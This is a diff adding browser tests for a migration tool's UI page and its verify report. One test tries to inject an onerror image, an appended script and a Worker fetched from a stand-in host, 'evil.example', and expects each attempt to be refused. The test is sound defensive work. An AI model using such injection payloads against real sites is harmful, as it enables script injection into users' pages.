@@ -12,6 +12,7 @@ import { savePage } from '../../src/ui/savedPage.ts'
 import { startUiServer, type UiServer } from '../../src/ui/server.ts'
 import { singleFile } from '../../src/ui/singleFile.ts'
 import type { WatchOptions } from '../../src/watch/options.ts'
+import { cli } from '../support/cli.ts'
 import { builtPage, describeInChromium, launchChromium } from '../support/page.ts'
 import { anyPostgres } from '../support/servers.ts'
 import { test as base, type Watched } from '../support/watch.ts'
@@ -327,6 +328,32 @@ describeInChromium('the page', () => {
     expect(one.complaints).toEqual([])
   })
 
+  test('even code on the page cannot make markup or scripts of texts', async ({ shown }) => {
+    const one = await shown.looking()
+    await expect.poll(() => one.text()).toContain('3 migrations')
+    const tried = await one.page.evaluate(() => {
+      const attempts = [
+        () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="this.id = 1">'),
+        () => {
+          document.body.append(
+            Object.assign(document.createElement('script'), { textContent: 'document.title = "run"' }),
+          )
+        },
+        () => void new Worker('https://evil.example/worker.js'),
+      ]
+      return attempts.map((attempt) => {
+        try {
+          attempt()
+          return 'done'
+        } catch {
+          return 'refused'
+        }
+      })
+    })
+    expect(tried).toEqual(['refused', 'refused', 'refused'])
+    expect(await one.page.title()).not.toBe('run')
+  })
+
   test('500 migrations: found by number or by name, and only what is in view is in the document', async ({ shown }) => {
     const files = Object.fromEntries(
       Array.from({ length: 500 }, (_, i) => [
@@ -365,6 +392,36 @@ describeInChromium('the page', () => {
     expect(
       asked.filter((url) => !url.startsWith('file:') && !url.startsWith('blob:') && !url.startsWith('data:')),
     ).toEqual([])
+    expect(one.complaints).toEqual([])
+  })
+
+  test('the report of verify: a matrix, each finding with its place, and the schemas', async ({ shown, watched }) => {
+    const one = await shown.looking({
+      ...SHOP,
+      '0003_mail.down.sql': 'select 1;',
+      '0004_wrong.up.sql': `-- migrate: depends-on 0003_mail\ncreate table "<b>x</b>" (id int, id int);`,
+    })
+    const file = join(watched.folder, 'report.html')
+    const { code, err } = cli(['verify', '--only', 'schema', '--path', watched.folder, '--report', file])
+    expect({ code, err }).toEqual({ code: 1, err: expect.stringContaining('report.html') })
+    await one.page.goto(`file://${file}#/findings`)
+    await expect.poll(() => one.text()).toContain('down-differs')
+    const cell = (migration: string) =>
+      one.page.getByRole('row', { name: migration }).locator('.cell').first().getAttribute('title')
+    expect(await cell('1_users')).toContain('passed')
+    expect(await cell('3_mail')).toContain('error')
+    expect(await cell('4_wrong')).toContain('error')
+    for (const colorScheme of ['light', 'dark'] as const) {
+      await one.page.emulateMedia({ colorScheme })
+      await one.photograph(`findings, ${colorScheme}`)
+      expect(await one.violations()).toEqual([])
+    }
+    await one.page.getByRole('link', { name: '4_wrong' }).first().click()
+    await expect.poll(() => one.text()).not.toContain('down-differs')
+    await one.go('#/migrations/3_mail')
+    await expect.poll(() => one.text()).toContain('What verify found')
+    await expect.poll(() => one.text()).toContain('mail text')
+    expect(await one.violations()).toEqual([])
     expect(one.complaints).toEqual([])
   })
 
